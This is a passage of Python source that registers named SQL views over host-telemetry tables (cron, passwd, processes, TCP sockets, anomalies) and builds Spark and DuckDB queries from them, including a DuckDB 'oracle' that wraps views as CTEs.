    "cron_lines": _cron_lines,
    "passwd": _passwd,
    "update_lines": _update_lines,
    "rpm_lines": _rpm_lines,
    "proc_status": _proc_status,
    "proc_fds": _proc_fds,
    "proc_tcp": _proc_tcp,
    "ps": _ps,
    "host_text": _host_text,
    "os_release": _os_release,
    "captures": _captures,
    "anomalies": _anomalies,
}


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.sql(VIEWS[name](SparkDialect(sf_dir)))


class _Spread(SparkDialect):
    """Tables are arguments of the statement."""

    def t(self, name: str) -> str:
        return f"{{{name}}}"


def spread_view(spark: SparkSession, sf_dir: str, name: str, table: str, columns: list[str], rows: int) -> DataFrame:
    """A view whose rows are built by tasks of at most about ``rows`` rows of ``table``; only its ``columns`` move."""
    keys = spark.read.parquet(f"{sf_dir}/{table}.parquet").select(*columns)
    return spark.sql(VIEWS[name](_Spread(sf_dir)), **{table: spread_rows(keys, rows)})


def oracle(body: str, *names: str, recursive: bool = False) -> str:
    """DuckDB SQL: the named views as CTEs in front of ``body``."""
    ctes = ",\n".join(f"{n} as ({VIEWS[n](DuckDialect())})" for n in names)
    head = "with recursive " if recursive else "with "
    body = body.strip()
    if body.lower().startswith("with "):
        body = ", " + body[5:] if names else body[5:]
    elif not names:
        return body
    return head + ctes + "\n" + body
